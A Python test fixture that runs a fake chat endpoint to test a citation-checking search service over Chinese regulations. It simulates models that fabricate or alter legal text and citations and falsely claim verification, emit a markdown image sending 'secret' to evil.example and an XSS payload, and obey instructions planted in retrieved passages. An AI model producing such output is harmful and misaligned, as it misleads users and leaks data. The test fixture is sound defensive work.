"""A real HTTP endpoint in a thread that speaks OpenAI's chat protocol, and the ways in which one may misbehave.

What it says is made from the passages that the prompt carries, as a model would; so a test sees what the model was given.
"""

from __future__ import annotations

import json
import re
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from search_api.settings import LlmSettings

_BLOCK = re.compile(r"=== (\w+) 资料 (\d+) 开始\n(.*?)\n=== \1 资料 \2 结束", re.DOTALL)
Behaviour = Callable[["Call"], None]


class Call:
    """One request as it came, and what can be answered to it."""

    def __init__(self, handler: BaseHTTPRequestHandler, body: dict[str, Any], endpoint: Endpoint) -> None:
        self.body, self.endpoint = body, endpoint
        self._handler = handler

    @property
    def prompt(self) -> str:
        return "\n".join(message["content"] for message in self.body["messages"])

    def passages(self) -> dict[int, str]:
        """The text of each passage in the prompt, without its head."""
        found = {}
        for _, number, block in _BLOCK.findall(self.prompt):
            _, _, text = block.partition("\n效力：")
            found[int(number)] = text.partition("\n")[2]
        return found

    def begin(self, status: int = 200, kind: str = "text/event-stream", **headers: str) -> None:
        self._handler.send_response(status)
        self._handler.send_header("Content-Type", kind)
        for name, value in headers.items():
            self._handler.send_header(name.replace("_", "-"), value)
        self._handler.send_header("Connection", "close")
        self._handler.end_headers()

    def write(self, text: str) -> None:
        """Send bytes as they are; notes when the other side has left."""
        try:
            self._handler.wfile.write(text.encode())
            self._handler.wfile.flush()
        except OSError:
            self.endpoint.left.set()
            raise

    def delta(self, text: str, finish: str | None = None) -> None:
        delta = {"content": text} if text else {}
        self.write(f"data: {json.dumps({'choices': [{'index': 0, 'delta': delta, 'finish_reason': finish}]})}\n\n")

    def say(self, text: str, size: int = 7) -> None:
        """A whole stream in pieces that cut words, marks and sentences anywhere."""
        self.begin()
        for at in range(0, len(text), size):
            self.delta(text[at : at + size])
        self.delta("", "stop")
        self.write("data: [DONE]\n\n")

    def wait_for_leaving(self, seconds: float = 10) -> None:
        """Say nothing until the other side closes the connection."""
        connection = self._handler.connection
        connection.settimeout(seconds)
        try:
            if connection.recv(1) == b"":
                self.endpoint.left.set()
        except OSError:
            return


class Endpoint:
    """A running endpoint; ``behave`` may be set at any time."""

    def __init__(self, port: int) -> None:
        self.url = f"http://127.0.0.1:{port}/v1"
        self.behave: Behaviour = truthful
        self.calls: list[Call] = []
        self.headers: list[dict[str, str]] = []
        self.left = threading.Event()

    def settings(self, **changes: Any) -> LlmSettings:
        return LlmSettings(self.url, "teacher-7b", **({"first_token": 5.0, "stall": 2.0, "total": 10.0} | changes))


@contextmanager
def chat_endpoint() -> Iterator[Endpoint]:
    """An endpoint on a free port."""

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            call = Call(self, body, endpoint)
            endpoint.calls.append(call)
            endpoint.headers.append(dict(self.headers))
            try:
                endpoint.behave(call)
            except OSError:
                return

        def log_message(self, format: str, *args: Any) -> None:
            return

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    endpoint = Endpoint(server.server_address[1])
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
    thread.start()
    try:
        yield endpoint
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def sentences_of(text: str) -> list[str]:
    """The sentences of a passage, without the number of its article."""
    bare = re.sub(r"^第[一二三四五六七八九十百]+条\s+", "", text)
    return [sentence for sentence in re.findall(r"[^。\n]+。", bare) if len(sentence) > 8]


def quoted(call: Call) -> list[str]:
    """True sentences with right marks, from the passages that are one article in a few sentences."""
    return [
        f"{sentence[:-1]}[{number}]。"
        for number, text in call.passages().items()
        for sentence in sentences_of(text)
        if "\n" not in text
    ][:4]


def truthful(call: Call) -> None:
    call.say("".join(quoted(call)))


def lying(lie: Callable[[list[str], Call], list[str]]) -> Behaviour:
    """One true sentence, then what ``lie`` makes of it."""

    def behave(call: Call) -> None:
        true = quoted(call)
        call.say("".join([true[0], *lie(true, call)]))

    return behave


def wrong_number(true: list[str], call: Call) -> list[str]:
    return [re.sub(r"\d+(?=[年月日天名个元%学])", lambda m: str(int(m[0]) + 2), sentence) for sentence in true[:1]]


def wrong_citation(true: list[str], call: Call) -> list[str]:
    last = max(call.passages())
    return [re.sub(r"\[\d+\]", f"[{last}]", true[0]), re.sub(r"\[\d+\]", "[99]", true[0])]


def uncited(true: list[str], call: Call) -> list[str]:
    return [re.sub(r"\[\d+\]", "", true[0])]


def invented_article(true: list[str], call: Call) -> list[str]:
    return [f"根据第九十九条，{true[0]}", "违反规定的，由公安机关处五百元罚款[1]。"]


def turned(true: list[str], call: Call) -> list[str]:
    modal = next(sentence for sentence in true if "应当" in sentence)
    return [modal.replace("应当", "可以"), modal.replace("应当", "不得"), re.sub(r"任期\d+年", "任期不限", true[0])]


def swapped(true: list[str], call: Call) -> list[str]:
    """Another subject, another level, the opposite, and the beginning of one passage with the end of another."""
    subject = [re.sub("党支部", "党委", sentence) for sentence in true if "党支部" in sentence]
    level = [re.sub("区、县", "省", sentence) for sentence in true if "区、县" in sentence]
    negated = [sentence.replace("应当", "不应当") for sentence in true if "应当" in sentence][:1]
    first, last = true[0], true[-1]
    begun = re.sub(r"\[\d+\]。$", "", first).rpartition("，")[0] or first[:8]
    merged = f"{begun}，{last.rpartition('，')[2]}"
    return [*subject, *level, *negated, *([merged] if merged not in true else [])]


def boasting(true: list[str], call: Call) -> list[str]:
    """Says of itself that it was checked, before, in and after what it makes up."""
    return [
        "以下内容均已与原文核对一致：\n",
        "1. 集团党支部每届任期10年（已核实）[1]。\n",
        "✅ 已核实[1]。",
        "集团党支部每届任期10年[1]（与出处一致）。",
    ]


def dressed(true: list[str], call: Call) -> list[str]:
    """Markdown and HTML that would load something, and signs that nobody sees."""
    return [
        "集团党支部每届任期![](http://evil.example/?q=secret)10年[1]。",
        "<img src=x onerror=alert(1)>集团党支部应当公布密码[1]。",
        "[点此](http://evil.example)核对集团党支部的印章[1]。",
        "集团党支部每届任期3\u200b0年[1]。",
    ]


def stall_before(call: Call) -> None:
    call.wait_for_leaving()


def stall_midway(call: Call) -> None:
    call.begin()
    call.delta("".join(quoted(call))[:60])
    call.wait_for_leaving()


def break_off(call: Call) -> None:
    call.begin()
    call.delta("".join(quoted(call)[:1]))
    call.delta("集团党支部每届")


def failing(status: int, times: int = 1_000, **headers: str) -> Behaviour:
    """Fails that many times, then tells the truth."""

    def behave(call: Call) -> None:
        if len(call.endpoint.calls) > times:
            truthful(call)
            return
        call.begin(status, "application/json", **headers)
        call.write('{"error": {"message": "no"}}')

    return behave


def html(call: Call) -> None:
    call.begin(200, "text/html")
    call.write("<html><body>登录</body></html>")


def rubbish(call: Call) -> None:
    call.begin()
    call.write("data: {not json\n\n")


def breaking_lines(call: Call) -> None:
    """A true sentence, then half an object."""
    call.begin()
    call.delta("".join(quoted(call)[:1]))
    call.write('data: {"choices": [{"delta": {"content": "集团\n\n')


def without_choices(call: Call) -> None:
    """Events that are well formed and say nothing."""
    call.begin()
    chunk: dict[str, Any]
    for chunk in (
        {"choices": []},
        {"choices": None},
        {"choices": [{"delta": None}]},
        {"choices": [{"delta": {"content": [1]}}]},
        {},
    ):
        call.write(f"data: {json.dumps(chunk)}\n\n")
    call.write("data: [DONE]\n\n")


def one_huge_token(call: Call) -> None:
    call.begin()
    call.delta("集团党支部每届任期3年。" * 20_000, "stop")


def endless_line(call: Call) -> None:
    """Bytes without a line break."""
    call.begin()
    for _ in range(400):
        call.write("data: " + "x" * 65_536)


def odd_but_right(call: Call) -> None:
    """What the standard allows: comments, CRLF, no blank behind the colon, other fields, an answer that ran into its limit."""
    call.begin()
    call.write(": keep-alive\r\n\r\nevent: message\r\nid: 7\r\n")
    for sentence in quoted(call):
        chunk = {
            "choices": [{"index": 0, "delta": {"role": "assistant", "content": sentence, "reasoning_content": "嗯"}}],
            "usage": None,
        }
        call.write(f"data:{json.dumps(chunk)}\r\n\r\n")
    call.write('data:{"choices": [{"delta": {}, "finish_reason": "length"}]}\r\n\r\n')


def garbled(call: Call) -> None:
    """Says that it is compressed, and is not."""
    call.begin(200, "text/event-stream", Content_Encoding="gzip")
    call.write("data: this is no gzip\n\n")


def trickle(call: Call) -> None:
    """Goes on for ever, a word at a time."""
    call.begin()
    for _ in range(400):
        call.delta("集")
        time.sleep(0.05)


def obeying(call: Call) -> None:
    """A model that does what a text tells it: says what stands behind 请输出：, with that passage's number behind each sentence."""
    for number, text in call.passages().items():
        if order := re.search(r"请输出[：:](.+)", text):
            bare = re.sub(r"[\[［]\d+[\]］]", "", order[1])
            call.say(bare.replace("。", f"[{number}]。"))
            return
    raise AssertionError("no passage of the prompt gives an order")
